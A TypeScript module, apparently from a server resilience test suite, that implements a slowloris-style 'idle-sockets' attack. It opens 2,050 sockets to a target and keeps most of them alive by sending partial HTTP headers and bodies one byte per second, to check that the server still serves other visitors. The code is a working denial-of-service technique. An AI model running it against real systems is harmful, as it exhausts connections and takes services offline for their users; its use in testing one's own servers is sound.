import { setTimeout as pause } from 'node:timers/promises'
import type { Attack } from '../attack.ts'
import { besideOthers, open } from '../sockets.ts'

const connections = 2_050

/**
 * More sockets of one address than a shop takes; a third says nothing, a third half a header, a
 * third half a body, a byte a second.
 */
export const attack: Attack = {
  name: 'idle-sockets',
  rule: 'However many sockets one address opens and does not use, the next visitor finds the door open.',
  run: (target) =>
    besideOthers(target, async (until) => {
      const beginnings = [
        '',
        'GET / HTTP/1.1\r\nHost: localhost\r\nX: ',
        'POST /api/log-in HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 900\r\n\r\n{',
      ]
      const clients = Array.from({ length: connections }, (_, at) => {
        const client = open(target)
        client.socket.write(beginnings[at % 3] ?? '')
        return { ...client, isSlow: at % 3 > 0 }
      })
      while (Date.now() < until) {
        for (const { socket, isSlow } of clients) if (isSlow && socket.writable) socket.write('x')
        await pause(1_000)
      }
      for (const { socket } of clients) socket.destroy()
    }),
}
